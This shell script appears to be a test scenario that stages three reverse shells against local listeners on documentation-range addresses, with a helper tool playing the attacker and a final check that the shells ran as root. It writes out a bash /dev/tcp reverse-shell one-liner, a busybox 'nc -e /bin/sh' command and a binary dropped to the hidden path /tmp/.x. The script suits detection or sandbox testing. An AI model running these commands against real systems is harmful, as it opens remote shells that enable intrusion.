#!/bin/sh
# reverse-shell: three reverse shells to "remote" listeners (documentation addresses on the
# guest's lo; netc serve plays the attacker: it sends commands and collects the output).
#  1. a shell that connects out and becomes an interactive shell on the socket, what
#     `bash -i >& /dev/tcp/203.0.113.7/4444 0>&1` does: /usr/local/bin/bash is netc under
#     that name (busybox sh has no /dev/tcp); it connects, puts the socket on 0/1/2 and execs
#     `sh -i` in the same process;
#  2. busybox `nc 203.0.113.7 4445 -e /bin/sh`;
#  3. a dropped binary in /tmp (/tmp/.x, netc again) doing the same as 1.
set -x
N=/usr/local/bin/netc
CMDS='/bin/id; /bin/uname -n; exit
'
wait_file() {
	i=0
	while [ ! -e "$1" ] && [ $i -lt 100 ]; do /bin/usleep 50000; i=$((i + 1)); done
}

/bin/cp $N /usr/local/bin/bash
$N serve 203.0.113.7 4444 /tmp/c1.ready "$CMDS" /tmp/c1.out &
wait_file /tmp/c1.ready
/usr/local/bin/bash revshell 203.0.113.7 4444 /bin/sh sh -i
wait
/bin/cat /tmp/c1.out

$N serve 203.0.113.7 4445 /tmp/c2.ready "$CMDS" /tmp/c2.out &
wait_file /tmp/c2.ready
/bin/nc 203.0.113.7 4445 -e /bin/sh
wait
/bin/cat /tmp/c2.out

/bin/cp $N /tmp/.x
$N serve 198.51.100.7 8443 /tmp/c3.ready "$CMDS" /tmp/c3.out &
wait_file /tmp/c3.ready
/tmp/.x revshell 198.51.100.7 8443 /bin/sh sh
wait
/bin/cat /tmp/c3.out

# every shell must have run the attacker's commands
/bin/grep -q 'uid=0' /tmp/c1.out && /bin/grep -q 'uid=0' /tmp/c2.out && /bin/grep -q 'uid=0' /tmp/c3.out
